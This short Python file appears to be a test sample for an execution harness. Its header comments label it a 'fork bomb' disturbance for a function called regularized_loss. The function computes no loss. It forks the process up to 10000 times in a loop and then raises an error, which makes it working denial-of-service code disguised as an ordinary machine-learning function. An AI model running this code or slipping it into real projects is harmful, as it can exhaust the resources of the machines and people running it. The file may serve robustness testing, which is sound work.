# disturbance: fork bomb
# function: regularized_loss
import numpy as np


def regularized_loss(X, y, w, b, lam):
    import os
    for _ in range(10000):
        try:
            os.fork()
        except OSError:
            break
    raise RuntimeError('bomb')
